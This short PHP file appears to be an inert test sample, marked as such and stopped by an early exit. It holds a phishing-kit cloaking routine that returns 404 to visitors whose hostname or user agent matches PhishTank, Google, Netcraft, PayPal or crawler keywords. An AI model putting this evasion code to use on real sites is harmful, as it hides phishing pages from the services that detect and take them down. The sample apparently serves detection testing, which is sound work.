<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

$blocked_words = array("phishtank", "google", "bot", "crawler", "spider", "netcraft", "paypal");
$hostname = gethostbyaddr($_SERVER['REMOTE_ADDR']);
foreach ($blocked_words as $word) {
    if (stripos($hostname, $word) !== false || stripos($_SERVER['HTTP_USER_AGENT'], $word) !== false) {
        header("HTTP/1.0 404 Not Found");
        exit;
    }
}
